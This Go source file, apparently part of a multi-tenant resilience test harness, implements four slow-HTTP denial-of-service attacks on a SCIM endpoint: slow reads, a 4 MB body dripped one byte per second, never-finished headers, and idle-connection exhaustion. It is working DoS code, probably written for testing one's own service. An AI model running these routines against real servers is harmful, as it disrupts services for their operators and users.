package bystander

import (
	"context"
	"io"
	"net"
	"strings"
	"time"
)

// SlowReaders keeps so many connections open that ask for the largest page, one request after the other, and never read an
// answer. A connection that the server cuts off is opened anew.
func (t *Tenant) SlowReaders(connections int) Attack {
	address := strings.TrimPrefix(t.URL, "http://")
	request := "GET /scim/v2/Users?count=1000 HTTP/1.1\r\nHost: " + address + "\r\nAuthorization: Bearer " + t.Token + "\r\n\r\n"
	return func(ctx context.Context) error {
		return parallel(ctx, connections, func(ctx context.Context, _ func() int) error {
			for ctx.Err() == nil {
				stall(ctx, address, request)
			}
			return nil
		})
	}
}

// stall sends a request and does not read until the connection is cut off or ctx ends.
func stall(ctx context.Context, address, request string) {
	connection, err := elsewhere.DialContext(ctx, "tcp", address)
	if err != nil {
		sleep(ctx, 100*time.Millisecond)
		return
	}
	defer func() { _ = connection.Close() }()
	if tcp, ok := connection.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10)
	}
	for ctx.Err() == nil {
		// Further requests queue behind the first. A write fails once the server has closed the connection.
		_ = connection.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := io.WriteString(connection, request); err != nil {
			return
		}
		sleep(ctx, time.Second)
	}
}

// SlowBodies keeps so many connections open that announce the largest body and send one byte a second.
func (t *Tenant) SlowBodies(connections int) Attack {
	address := strings.TrimPrefix(t.URL, "http://")
	head := "POST /scim/v2/Bulk HTTP/1.1\r\nHost: " + address + "\r\nAuthorization: Bearer " + t.Token +
		"\r\nContent-Type: application/scim+json\r\nContent-Length: 4000000\r\n\r\n{\"schemas\":["
	return func(ctx context.Context) error {
		return parallel(ctx, connections, func(ctx context.Context, _ func() int) error {
			for ctx.Err() == nil {
				drip(ctx, address, head)
			}
			return nil
		})
	}
}

func drip(ctx context.Context, address, head string) {
	connection, err := elsewhere.DialContext(ctx, "tcp", address)
	if err != nil {
		sleep(ctx, 100*time.Millisecond)
		return
	}
	defer func() { _ = connection.Close() }()
	for text := head; ctx.Err() == nil; text = " " {
		if _, err := io.WriteString(connection, text); err != nil {
			return
		}
		sleep(ctx, time.Second)
	}
}

// SlowHeaders keeps so many connections open that send a line of a request's header a second, and never the last one.
func (t *Tenant) SlowHeaders(connections int) Attack {
	address := strings.TrimPrefix(t.URL, "http://")
	return func(ctx context.Context) error {
		return parallel(ctx, connections, func(ctx context.Context, _ func() int) error {
			for ctx.Err() == nil {
				dripLines(ctx, address)
			}
			return nil
		})
	}
}

func dripLines(ctx context.Context, address string) {
	connection, err := elsewhere.DialContext(ctx, "tcp", address)
	if err != nil {
		sleep(ctx, 100*time.Millisecond)
		return
	}
	defer func() { _ = connection.Close() }()
	for line := "GET /scim/v2/Users HTTP/1.1\r\nHost: " + address + "\r\n"; ctx.Err() == nil; line = "X-Padding: x\r\n" {
		if _, err := io.WriteString(connection, line); err != nil {
			return
		}
		sleep(ctx, time.Second)
	}
}

// IdleConnections opens as many connections as the server lets one source have, sends nothing, and opens each anew that is closed.
func (t *Tenant) IdleConnections(connections int) Attack {
	address := strings.TrimPrefix(t.URL, "http://")
	return func(ctx context.Context) error {
		return parallel(ctx, connections, func(ctx context.Context, _ func() int) error {
			for ctx.Err() == nil {
				idle(ctx, address)
				sleep(ctx, 100*time.Millisecond)
			}
			return nil
		})
	}
}

// idle returns when the server has closed a connection, or ctx has ended.
func idle(ctx context.Context, address string) {
	connection, err := elsewhere.DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = connection.Close() })
	defer stop()
	defer func() { _ = connection.Close() }()
	_, _ = connection.Read(make([]byte, 1))
}
